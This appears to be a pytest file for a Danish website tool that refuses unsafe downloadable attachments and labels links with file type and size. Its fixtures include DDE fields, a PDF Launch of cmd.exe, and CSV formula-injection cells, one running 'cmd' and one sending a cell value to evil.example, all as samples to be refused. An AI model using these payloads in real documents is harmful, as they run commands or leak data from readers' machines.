"""A file to download is what its extension says, holds nothing that does anything, and its link says what it is."""

from __future__ import annotations

import zipfile
from io import BytesIO
from pathlib import Path

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name

from kanalstrategi.markdown.nodes import element, text_of
from kanalstrategi.rendering.attachments import attachment_note, describe_attachments
from kanalstrategi.sanitizing import office_files
from kanalstrategi.sanitizing.csv_files import check_csv
from kanalstrategi.sanitizing.files import check_files
from kanalstrategi.sanitizing.office_files import check_office
from kanalstrategi.sanitizing.pdf_accessibility import advise_on_pdf
from kanalstrategi.sanitizing.pdf_files import check_pdf

# Files of Word and Excel

WORD, EXCEL = "wordprocessingml.document", "spreadsheetml.sheet"
OFFICE = "application/vnd.openxmlformats-officedocument"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = {".docx": ("word/document.xml", WORD), ".xlsx": ("xl/workbook.xml", EXCEL)}


def relationships(*found: tuple[str, str, str]) -> str:
    """Return a part with relationships, each given as its kind, target and mode."""
    lines = "".join(f'<Relationship Id="r{n}" Type="{RELATIONSHIPS}/{kind}" Target="{to}" TargetMode="{mode}"/>' for n, (kind, to, mode) in enumerate(found))
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{lines}</Relationships>'


def office(extension: str, parts: dict[str, str | bytes] | None = None, main_type: str = "") -> bytes:
    """Return a small document with more parts, or other ones in place of its own."""
    name, kind = MAIN[extension]
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{name}" ContentType="{main_type or f"{OFFICE}.{kind}.main+xml"}"/></Types>'
    )
    whole = {"[Content_Types].xml": types, "_rels/.rels": relationships(("officeDocument", name, "Internal")), name: "<document/>", **(parts or {})}
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, content in whole.items():
            archive.writestr(part, content)
    return stream.getvalue()


def field(*pieces: str) -> str:
    """Return a document with a field of Word whose code stands in pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:document xmlns:w="w"><w:fldChar/>{runs}<w:fldChar/></w:document>'


@pytest.mark.parametrize("extension", [".docx", ".xlsx"])
def test_an_ordinary_document_is_accepted(extension: str) -> None:
    ordinary: dict[str, str | bytes] = {
        "docProps/thumbnail.jpeg": b"\xff\xd8",
        "word/_rels/document.xml.rels": relationships(
            ("hyperlink", "https://www.borger.dk/link?a=1", "External"), ("hyperlink", "mailto:a@b.dk", "External"), ("image", "media/a.png", "Internal")
        ),
        "word/media/a.png": b"\x89PNG",
        "xl/printerSettings/printerSettings1.bin": b"\0\1",
        "word/footer1.xml": field(" PAGE ", " \\* MERGEFORMAT"),
        "word/footer2.xml": field(' HYPERLINK "https://eksempel.dk/link/include" '),
        "xl/worksheets/sheet1.xml": "<sheet><f>SUM(A1:A2)</f><f>HYPERLINK(A1)</f></sheet>",
    }
    assert check_office(office(extension, ordinary), extension) == []


FETCHING = {
    "an external image": {"word/_rels/document.xml.rels": relationships(("image", "https://x.dk/a.png", "External"))},
    "an external image, in capitals": {"word/_rels/DOCUMENT.XML.RELS": relationships(("image", "https://x.dk/a.png", "EXTERNAL"))},
    "data of another workbook": {"xl/_rels/workbook.xml.rels": relationships(("externalLink", "externalLinks/externalLink1.xml", "Internal"))},
    "data from a server": {"xl/_rels/workbook.xml.rels": relationships(("connections", "connections.xml", "Internal"))},
    "addresses for a mail merge": {"word/_rels/settings.xml.rels": relationships(("mailMergeSource", "file:///C:/a.xlsx", "External"))},
    "a field": {"word/document.xml": field(' INCLUDEPICTURE "https://x.dk/a.png" ')},
    "a field in pieces": {"word/document.xml": field(" D", "DEAU", "TO c:\\\\a.exe ")},
    "a field in capitals and not": {"word/header1.xml": field("dDe x y")},
    "a simple field": {"word/document.xml": '<w:document xmlns:w="w"><w:fldSimple w:instr=" INCLUDETEXT x "/></w:document>'},
    "a field around a comment": {"word/document.xml": field("IN<!-- a -->CLUDETEXT x")},
    "a function": {"xl/worksheets/sheet1.xml": '<sheet><f>1+WEBSERVICE("https://x.dk")</f></sheet>'},
    "a function that is written as a number": {"xl/worksheets/sheet1.xml": "<sheet><f>WEB&#83;ERVICE (A1)</f></sheet>"},
    "a name for a function": {"xl/workbook.xml": "<workbook><definedName>_xlfn.IMAGE(A1)</definedName></workbook>"},
}


@pytest.mark.parametrize("parts", FETCHING.values(), ids=FETCHING)
@pytest.mark.parametrize("extension", [".docx", ".xlsx"])
def test_a_document_that_fetches_something_is_refused(extension: str, parts: dict[str, str | bytes]) -> None:
    [(message, hint)] = check_office(office(extension, parts), extension)
    assert message.startswith("filen henter noget andre steder fra (") and hint.startswith("bryd forbindelsen i ")


OTHER_FAULTS: dict[str, tuple[dict[str, str | bytes], str]] = {
    "macros": ({"word/vbaProject.bin": b"x"}, "filen indeholder makroer eller et andet program"),
    "macros by another name": (
        {"word/_rels/document.xml.rels": relationships(("vbaProject", "media/a.png", "Internal"))},
        "filen indeholder makroer eller et andet program",
    ),
    "a button": ({"word/_rels/document.xml.rels": relationships(("control", "activeX/a.xml", "Internal"))}, "filen indeholder makroer eller et andet program"),
    "an embedded program": ({"word/media/a.exe": b"MZ"}, "filen har en anden fil i sig (a.exe)"),
    "an embedded workbook": ({"word/embeddings/tal.xlsx": b"PK"}, "filen har en anden fil i sig (tal.xlsx)"),
    "an embedded object": (
        {"word/_rels/document.xml.rels": relationships(("oleObject", "embeddings/a.xml", "Internal"))},
        "filen har en anden fil i sig (a.xml)",
    ),
    "a document in it": ({"word/_rels/document.xml.rels": relationships(("aFChunk", "a.xml", "Internal"))}, "filen har en anden fil i sig (a.xml)"),
    "a template": (
        {"word/_rels/settings.xml.rels": relationships(("attachedTemplate", "file:///C:/Skabeloner/brev.dotx", "External"))},
        "filen henter en skabelon (file:///C:/Skabeloner/brev.dotx)",
    ),
    "a link to somebody's disk": (
        {"word/_rels/document.xml.rels": relationships(("hyperlink", "file:///H:/plan.docx", "External"))},
        "filen linker til file:///H:/plan.docx, som læserne ikke kan følge",
    ),
    "an entity": ({"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}, "filen er beskadiget eller kan ikke læses"),
    "another encoding": ({"word/document.xml": "<?xml version='1.0' encoding='utf-16'?><a/>".encode("utf-16")}, "filen er beskadiget eller kan ikke læses"),
    "text that is no XML": ({"word/document.xml": "<a>"}, "filen er beskadiget eller kan ikke læses"),
    "a part twice": ({"word/Document.xml": "<a/>"}, "filen er beskadiget eller kan ikke læses"),
}


@pytest.mark.parametrize(("parts", "message"), OTHER_FAULTS.values(), ids=OTHER_FAULTS)
def test_a_document_that_is_more_than_text_is_refused(parts: dict[str, str | bytes], message: str) -> None:
    assert [found for found, _ in check_office(office(".docx", parts), ".docx")] == [message]


@pytest.mark.parametrize(
    ("main_type", "message"),
    [
        ("application/vnd.ms-word.document.macroEnabled.main+xml", "filen indeholder makroer eller et andet program"),
        (f"{OFFICE}.wordprocessingml.template.main+xml", "filen er ikke et dokument fra Word"),
        (f"{OFFICE}.{EXCEL}.main+xml", "filen hedder .docx, men er et dokument af typen .xlsx"),
    ],
)
def test_a_file_of_another_kind_is_refused(main_type: str, message: str) -> None:
    assert [found for found, _ in check_office(office(".docx", main_type=main_type), ".docx")] == [message]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "filen er låst med en adgangskode eller gemt i et gammelt format"),
        (b"%PDF-1.7\n", "filen er ikke et dokument fra Word"),
        (b"", "filen er ikke et dokument fra Word"),
        (b"PK\x03\x04" + bytes(50), "filen er beskadiget eller kan ikke læses"),
        (office(".docx")[:-40], "filen er beskadiget eller kan ikke læses"),
    ],
)
def test_a_file_that_is_no_document_is_refused(data: bytes, message: str) -> None:
    assert [found for found, _ in check_office(data, ".docx")] == [message]


@pytest.mark.parametrize("limit", ["MAX_PARTS", "MAX_UNPACKED_BYTES", "MAX_TAGS"])
def test_a_document_that_grows_too_much_is_refused(monkeypatch: pytest.MonkeyPatch, limit: str) -> None:
    monkeypatch.setattr(office_files, limit, 2)
    assert [message for message, _ in check_office(office(".docx"), ".docx")] == ["filen fylder for meget, når den pakkes ud"]


def test_a_part_that_is_larger_than_it_says_is_refused() -> None:
    data = office(".docx", {"word/a.xml": "<a>" + " " * 50_000 + "</a>"})
    declared = (50_007).to_bytes(4, "little")
    assert data.count(declared) == 2  # once in front of the part, once in the list at the end
    assert [message for message, _ in check_office(data.replace(declared, (10).to_bytes(4, "little")), ".docx")] == ["filen er beskadiget eller kan ikke læses"]


# PDFs


def pdf_with(**root: object) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    for key, value in root.items():
        pdf.Root[f"/{key}"] = value
    return pdf


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    stream = BytesIO()
    pdf.save(stream, **options)  # type: ignore[arg-type]  # any option
    return stream.getvalue()


def action(kind: str, **more: str | pikepdf.Object) -> Dictionary:
    return Dictionary({"/S": Name(f"/{kind}"), **{f"/{key}": value for key, value in more.items()}})


@pytest.mark.parametrize("mode", list(pikepdf.ObjectStreamMode))
def test_an_ordinary_pdf_is_accepted(mode: pikepdf.ObjectStreamMode) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, A=action("URI", URI="https://www.borger.dk"))
    pdf = pdf_with(OpenAction=action("GoTo", D=Array([0, Name.Fit])), StructTreeRoot=Dictionary(K=Array([Dictionary(S=Name.Link)])))
    pdf.pages[0].Annots = Array([link, Dictionary(Type=Name.Annot, Subtype=Name.Link, A=action("URI", URI="mailto:a@b.dk"))])
    assert check_pdf(saved(pdf, object_stream_mode=mode)) == []


FAULTS = {
    "a program": (pdf_with(OpenAction=action("JavaScript", JS="app.alert(1)")), "PDF-filen indeholder et program (JavaScript)"),
    "a program deep inside": (pdf_with(A=Array([Array([Dictionary(B=action("JavaScript"))])])), "PDF-filen indeholder et program (JavaScript)"),
    "a form that runs": (pdf_with(AcroForm=Dictionary(XFA=Array([]))), "PDF-filen indeholder et program (JavaScript)"),
    "another program": (pdf_with(OpenAction=action("Launch", F="cmd.exe")), "PDF-filen åbner en anden fil eller et program"),
    "a file in it": (pdf_with(Names=Dictionary(EmbeddedFiles=Dictionary(Names=Array([])))), "PDF-filen har andre filer i sig"),
    "an attachment": (pdf_with(A=Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment)), "PDF-filen har andre filer i sig"),
    "a form that is sent": (pdf_with(A=action("SubmitForm")), "PDF-filen sender eller henter, hvad læseren skriver i den"),
    "a film": (pdf_with(A=Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)), "PDF-filen har lyd, film eller 3D i sig"),
    "a link to somebody's disk": (pdf_with(A=action("URI", URI="file:///H:/a.pdf")), "PDF-filen linker til file:///H:/a.pdf, som læserne ikke kan følge"),
    "a link that is a program": (pdf_with(A=action("URI", URI="javascript:x")), "PDF-filen linker til javascript:x, som læserne ikke kan følge"),
}


@pytest.mark.parametrize(("pdf", "message"), FAULTS.values(), ids=FAULTS)
@pytest.mark.parametrize("mode", [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate])
def test_a_pdf_that_does_something_is_refused(pdf: pikepdf.Pdf, message: str, mode: pikepdf.ObjectStreamMode) -> None:
    assert [found for found, _ in check_pdf(saved(pdf, object_stream_mode=mode))] == [message]


def test_a_name_that_is_written_as_numbers_is_read() -> None:
    data = saved(pdf_with(OpenAction=action("Launch", F="abcd")), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    hidden = data.replace(b"/Launch", b"/L#61unch").replace(b"(abcd)", b"(ab)")  # as long as before
    assert len(hidden) == len(data) and b"Launch" not in hidden
    assert [message for message, _ in check_pdf(hidden)] == ["PDF-filen åbner en anden fil eller et program"]


@pytest.mark.parametrize(
    ("encryption", "message"),
    [
        (pikepdf.Encryption(owner="a", user="b"), "PDF-filen er beskyttet med en adgangskode"),
        (pikepdf.Encryption(owner="a", user=""), "PDF-filen er låst"),
    ],
)
def test_a_locked_pdf_is_refused(encryption: pikepdf.Encryption, message: str) -> None:
    assert [found for found, _ in check_pdf(saved(pdf_with(), encryption=encryption))] == [message]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "filen er ikke en PDF"),
        (b"<html>%PDF-1.7", "filen er ikke en PDF"),
        (b"%PDF-1.7\n%%EOF", "PDF-filen er beskadiget eller kan ikke læses"),
        (saved(pdf_with())[:-60], "PDF-filen er beskadiget eller kan ikke læses"),
        (saved(pikepdf.new()), "PDF-filen har ingen sider"),
    ],
)
def test_a_file_that_is_no_whole_pdf_is_refused(data: bytes, message: str) -> None:
    assert [found for found, _ in check_pdf(data)] == [message]


def test_a_pdf_that_grows_too_much_is_refused_and_the_limit_is_lifted_again() -> None:
    before = pikepdf.settings.get_qpdf_limits()
    pdf = pdf_with(A=Array([pikepdf.String(" " * 60_000_000), pikepdf.String("!" * 60_000_000)]))
    pdf.Root.A = pdf.make_indirect(pdf.Root.A)
    data = saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert len(data) < 1_000_000
    assert [message for message, _ in check_pdf(data)] == ["PDF-filen er beskadiget eller kan ikke læses"]
    assert pikepdf.settings.get_qpdf_limits() == before


@given(st.integers(0, 10_000), st.binary(min_size=1, max_size=4))
def test_a_damaged_file_never_stops_the_check(place: int, change: bytes) -> None:
    for data, check in ((saved(pdf_with()), check_pdf), (office(".docx"), lambda data: check_office(data, ".docx"))):
        start = place % len(data)
        check(data[:start] + change + data[start + len(change) :])


# What a PDF lacks for those who have it read aloud


def spoken(**changes: object) -> pikepdf.Pdf:
    """Return a PDF with tags and a language, and without a title."""
    return pdf_with(**{"MarkInfo": Dictionary(Marked=True), "StructTreeRoot": Dictionary(K=Array([])), "Lang": pikepdf.String("da-DK"), **changes})


METADATA = b'<x><dc:title><rdf:Alt><rdf:li xml:lang="x-default">Plan</rdf:li></rdf:Alt></dc:title></x>'


def titled(pdf: pikepdf.Pdf, title: str = "Plan") -> pikepdf.Pdf:
    pdf.docinfo["/Title"] = title
    return pdf


@pytest.mark.parametrize(
    ("pdf", "message"),
    [
        (titled(pdf_with(Lang=pikepdf.String("da"))), "har ingen mærker (tags)"),
        (spoken(MarkInfo=Dictionary(Marked=False)), "har ingen mærker (tags)"),
        (spoken(StructTreeRoot=Dictionary()), "har ingen mærker (tags)"),
        (spoken(MarkInfo=1, StructTreeRoot=2), "har ingen mærker (tags)"),
        (titled(spoken(Lang=1)), "siger ikke, hvilket sprog den er på"),
        (titled(spoken(Lang=pikepdf.String(" "))), "siger ikke, hvilket sprog den er på"),
        (spoken(), "har ingen titel"),
        (titled(spoken(), " "), "har ingen titel"),
        (titled(spoken()), ""),
    ],
)
def test_it_is_advised_against_a_pdf_that_cannot_be_read_aloud_well(pdf: pikepdf.Pdf, message: str) -> None:
    assert check_pdf(saved(pdf)) == []
    advice = [found for found, _ in advise_on_pdf(saved(pdf))]
    assert len(advice) == bool(message) and all(found.startswith(f"PDF-filen {message}") for found in advice)


def test_a_title_may_stand_in_the_metadata_alone() -> None:
    for metadata, count in ((METADATA, 0), (METADATA.replace(b"Plan", b" "), 1), (b"<dc:title", 1), (b"", 1)):
        pdf = spoken()
        pdf.Root.Metadata = pdf.make_indirect(pikepdf.Stream(pdf, metadata))
        assert len(advise_on_pdf(saved(pdf, fix_metadata_version=False))) == count, metadata


def test_nothing_is_advised_about_a_file_that_is_reported_anyway() -> None:
    assert advise_on_pdf(b"MZ") == advise_on_pdf(saved(spoken())[:-200]) == []


# Tables as text


@pytest.mark.parametrize(
    "text",
    [
        "Sted;Telefon\nBiblioteket;+45 54 73 00 00\n",
        "a;b\n-5;-2,5\n+3;-\n",
        "a,b\r\n1,-1\r\n",
        "pris\n100,- kr.\n",
        "profil;note\n@guldborgsund;- ingen\n",
        'a;"b = c; og d"\n',
        "telefon\n+45 54730000 (9-15)\n",
        "\ufeffa;b\n",
        "",
    ],
)
def test_numbers_telephone_numbers_and_words_are_values(text: str) -> None:
    assert check_csv(text.encode()) == []


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("a;b\n1;=1+1\n", "=1+1"),
        ('a,b\n1, "=HYPERLINK(""https://evil.example/""&A2)"\n', '=HYPERLINK(""https://evil.example/""&A2)'),
        ("a\tb\n1\t=1\n", "=1"),
        ("a;b\n-2+3+cmd|' /C calc'!A0;1\n", "-2+3+cmd|' /C calc'!A0"),
        ("a;b\n+WEBSERVICE(A1);1\n", "+WEBSERVICE(A1)"),
        ("a;b\n@SUM (A1);1\n", "@SUM (A1)"),
        ("a;b\n-LOG10(A1);1\n", "-LOG10(A1)"),
        ("sep=|\n1|=1\n", "=1"),
        ("a;b\n1;\uff1dA1\n", "\uff1dA1"),
    ],
)
def test_a_cell_that_a_spreadsheet_runs_is_reported_with_its_line(text: str, cell: str) -> None:
    [wrong] = check_csv(text.encode())
    assert (wrong.line, wrong.message) == (2, f"cellen »{cell}« er en formel, som et regneark udfører")


def test_a_table_is_text_in_utf_8_without_a_long_list_of_mistakes() -> None:
    assert [wrong.message for wrong in check_csv("æ;b\n".encode("cp1252"))] == ["teksten er ikke gemt som UTF-8, men ser ud til at være Windows-1252 (»ANSI«)"]
    assert [wrong.line for wrong in check_csv(b"a;b\n1;\x00\n")] == [2]
    assert check_csv(office(".xlsx")) != []
    assert len(check_csv(b"=1;=2\n" * 1_000)) == 10
    [long] = check_csv(b"=" + b"a" * 1_000)
    assert len(long.message) < 100


# Among the files of a site


def test_attachments_may_lie_in_docs_by_the_names_that_all_files_have(tmp_path: Path) -> None:
    files = {"bilag/plan.pdf": saved(pdf_with()), "bilag/plan.docx": office(".docx"), "bilag/tal.xlsx": office(".xlsx"), "bilag/Tal 1.xlsx": office(".xlsx")}
    files |= {"bilag/tal.csv": b"a;b\n1;2\n"}
    (tmp_path / "bilag").mkdir()
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    [wrong] = check_files(tmp_path, list(files))
    assert wrong.message == "navnet Tal 1.xlsx kan ikke bruges i en adresse" and wrong.hint.endswith(": bilag/tal-1.xlsx")


@pytest.mark.parametrize("name", ["a.pdf", "a.docx", "a.xlsx"])
def test_an_attachment_that_is_something_else_is_reported_with_its_place(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(b"MZ")
    [wrong] = check_files(tmp_path, [name])
    assert str(wrong).startswith(f"docs/{name}:1: filen er ikke e")


def test_an_attachment_may_be_larger_than_an_image_but_not_of_any_size(tmp_path: Path) -> None:
    (tmp_path / "a.pdf").write_bytes(bytes(10_000_001))
    [wrong] = check_files(tmp_path, ["a.pdf"])
    assert wrong.message == "filen fylder 10001 kB, og den må højst fylde 10000 kB" and "del den i flere" in wrong.hint
    (tmp_path / "a.csv").write_bytes(b"1\n" * 1_000_001)
    [wrong] = check_files(tmp_path, ["a.csv"])
    assert (wrong.message, wrong.hint) == ("filen fylder 2001 kB, og den må højst fylde 2000 kB", "del den i flere")


@pytest.mark.parametrize("name", ["a.docm", "a.doc", "a.xlsm", "a.exe", "a.pptx", "a.zip", "a.html"])
def test_other_kinds_of_files_are_refused_and_the_allowed_ones_named(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(office(".docx"))
    [wrong] = check_files(tmp_path, [name])
    assert wrong.hint.endswith(".csv, .docx, .pdf, .xlsx")


# Links


@pytest.mark.parametrize(
    ("path", "size", "note"),
    [
        ("plan.pdf", 1_234_567, "(PDF, 1,2 MB)"),
        ("../bilag/plan.docx", 34_000, "(Word, 34 kB)"),
        ("tal.xlsx", 12_400, "(Excel, 12 kB)"),
        ("tal.xlsx", 10, "(Excel, 1 kB)"),
        ("tal.csv", 1_400, "(CSV, 1 kB)"),
        ("tal.xlsx", 999_700, "(Excel, 1 MB)"),
        ("plan.pdf", 10_000_000, "(PDF, 10 MB)"),
    ],
)
def test_the_note_says_kind_and_size_in_danish(path: str, size: int, note: str) -> None:
    assert attachment_note(path, size) == note


@pytest.mark.parametrize(
    ("text", "described"),
    [
        ("Planen", "Planen (PDF, 1,2 MB)"),
        ("Planen (PDF)", "Planen (PDF) (1,2 MB)"),
        ("Planen, 1,2 MB", "Planen, 1,2 MB (PDF)"),
        ("Planen (pdf, 1,2 MB)", "Planen (pdf, 1,2 MB)"),
    ],
)
def test_the_link_says_what_its_text_does_not_say_already(text: str, described: str) -> None:
    link = element("a", element("strong", text), href="../bilag/plan.pdf?2026#page=2")
    describe_attachments(element("div", element("p", link)), lambda url: 1_234_567)
    assert text_of(link) == described


@pytest.mark.parametrize("url", ["../bilag/plan.png", "https://eksempel.dk/plan.pdf", "//eksempel.dk/plan.pdf", "plan-pdf/", "#plan.pdf", "http://[", ""])
def test_other_links_are_left_alone(url: str) -> None:
    link = element("a", "Planen", href=url)
    describe_attachments(element("div", link), lambda url: 1)
    assert text_of(link) == "Planen"


def test_a_link_to_a_file_that_the_site_does_not_have_is_left_alone() -> None:
    link = element("a", "Planen", href="plan.pdf")
    describe_attachments(element("div", link), lambda url: None)
    assert text_of(link) == "Planen"
